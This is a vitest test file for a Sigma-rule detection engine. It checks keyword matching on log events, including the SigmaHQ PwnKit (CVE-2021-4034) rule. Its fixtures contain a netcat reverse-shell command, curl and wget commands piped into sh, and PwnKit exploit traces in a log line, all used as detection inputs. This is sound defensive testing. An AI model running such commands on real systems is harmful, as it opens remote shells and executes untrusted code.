import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DetectionEngine } from '../../src/detection/engine.js';
import { loadRules } from '../../src/detection/sigma/loader.js';
import { datasets, ruleFrom } from './helpers.js';

const PWNKIT = path.join(datasets, 'sigmahq/rules-emerging-threats/2021/Exploits/CVE-2021-4034/lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml');
// pkexec (polkit ≥ 0.121) logging the environment check PwnKit trips; "pkexec" is only in the header.
const PWNKIT_LINE =
  'Jan 26 09:37:23 ubuntu pkexec[20017]: alice: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/alice] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. CHARSET=PWNKIT SHELL=pwnkit]';

function engineFor(detection: string, opts: { keywordFields?: string[]; extractors?: boolean } = {}) {
  const e = new DetectionEngine({
    rules: [ruleFrom(detection)],
    builtinExtractors: opts.extractors ?? false,
    ...(opts.keywordFields ? { keywordFields: opts.keywordFields } : {}),
  });
  return (rec: Record<string, unknown>) => e.evaluate({ ...rec }) !== undefined;
}

describe('Sigma keywords search the whole event', () => {
  it('the SigmaHQ PwnKit rule (CVE-2021-4034) matches its log line, raw or parsed by a source', async () => {
    const { rules, refusals } = await loadRules([PWNKIT], { builtin: false });
    expect(refusals).toEqual([]);
    const e = new DetectionEngine({ rules });
    // Raw line: the syslog extractor moves "pkexec" out of message into process.name.
    expect(e.scanText(PWNKIT_LINE).hits.length).toBe(2);
    // As the log-file source hands it over: header already parsed, the line in event.original.
    const parsed = {
      message: PWNKIT_LINE.slice(PWNKIT_LINE.indexOf(': ') + 2),
      'process.name': 'pkexec',
      'process.pid': 20017,
      'host.name': 'ubuntu',
      'event.original': PWNKIT_LINE,
    };
    expect(e.evaluate({ ...parsed })).toEqual([0]);
    // Without event.original, process.name still carries "pkexec".
    const { 'event.original': _o, ...noOriginal } = parsed;
    expect(e.evaluate({ ...noOriginal })).toEqual([0]);
    // The same text from another program is no PwnKit.
    expect(e.evaluate({ ...parsed, 'process.name': 'sudo', 'event.original': parsed.message })).toBeUndefined();
  });

  it('a structured event without message or original: keywords find values of any field, arrays included', () => {
    const m = engineFor(`keywords:\n    - 'nc -e /bin/sh'\ncondition: keywords`);
    expect(m({ 'process.command_line': 'nc -e /bin/sh 203.0.113.9 4444' })).toBe(true);
    expect(m({ 'process.args': ['bash', '-c', 'nc -e /bin/sh 203.0.113.9 4444'] })).toBe(true);
    expect(m({ 'process.command_line': 'nc -l 4444' })).toBe(false);
  });

  it('numbers are searched by their text', () => {
    const m = engineFor(`keywords:\n    - '4444'\ncondition: keywords`);
    expect(m({ 'destination.port': 4444 })).toBe(true);
    expect(m({ 'destination.port': 443 })).toBe(false);
  });

  it('a wildcard keyword matches inside one value, never across two', () => {
    const m = engineFor(`keywords:\n    - 'wget*|*sh'\ncondition: keywords`);
    expect(m({ 'process.command_line': 'wget -q -O- http://x | sh' })).toBe(true);
    expect(m({ 'process.command_line': 'wget -q http://x', 'user.name': 'a|b sh' })).toBe(false);
    // A plain literal cannot straddle two values either (the joined text has a separator no literal holds).
    const lit = engineFor(`keywords:\n    - 'root sshd'\ncondition: keywords`);
    expect(lit({ 'user.name': 'root', 'process.name': 'sshd' })).toBe(false);
    expect(lit({ message: 'as root sshd started' })).toBe(true);
  });

  it("'|all' keywords may sit in different values of the event", () => {
    const m = engineFor(`keywords:\n    '|all':\n        - 'pkexec'\n        - 'GCONV_PATH='\ncondition: keywords`);
    expect(m({ 'process.name': 'pkexec', message: 'COMMAND=GCONV_PATH=./x' })).toBe(true);
    expect(m({ 'process.name': 'sudo', message: 'COMMAND=GCONV_PATH=./x' })).toBe(false);
  });

  it('cased and regular-expression keywords test each value', () => {
    const cased = engineFor(`keywords:\n    '|cased': 'ROOT LOGIN'\ncondition: keywords`);
    expect(cased({ message: 'x', 'event.original': 'combo login[1]: ROOT LOGIN ON tty2' })).toBe(true);
    expect(cased({ message: 'root login on tty2' })).toBe(false);
    const re = engineFor(`keywords:\n    '|re': '^pkexec$'\ncondition: keywords`);
    expect(re({ message: 'something', 'process.name': 'pkexec' })).toBe(true);
    expect(re({ message: 'pkexec ran' })).toBe(false);
  });

  it('a keyword found only in a value an extractor decoded (auditd hex argument)', () => {
    const arg = Buffer.from('curl http://203.0.113.9/x | sh').toString('hex').toUpperCase();
    const m = engineFor(`keywords:\n    - 'http://203.0.113.9/x'\ncondition: keywords`, { extractors: true });
    const line = `type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="bash" a1="-c" a2=${arg}`;
    expect(m({ message: line, 'event.original': line })).toBe(true);
  });

  it('collection metadata (fabric.*, event.id, log.file.path, …) is not searched; keyword_fields narrows the search', () => {
    const m = engineFor(`keywords:\n    - 'deadbeef'\ncondition: keywords`);
    expect(m({ message: 'hello', 'fabric.fingerprint': '00deadbeef00' })).toBe(false);
    expect(m({ message: 'hello', 'event.id': '00deadbeef00', 'log.file.path': '/var/log/deadbeef.log' })).toBe(false);
    const narrow = engineFor(`keywords:\n    - 'pkexec'\ncondition: keywords`, { keywordFields: ['message'] });
    expect(narrow({ message: 'hello', 'event.original': 'host pkexec[1]: hello' })).toBe(false);
    expect(narrow({ message: 'pkexec hello' })).toBe(true);
  });
});
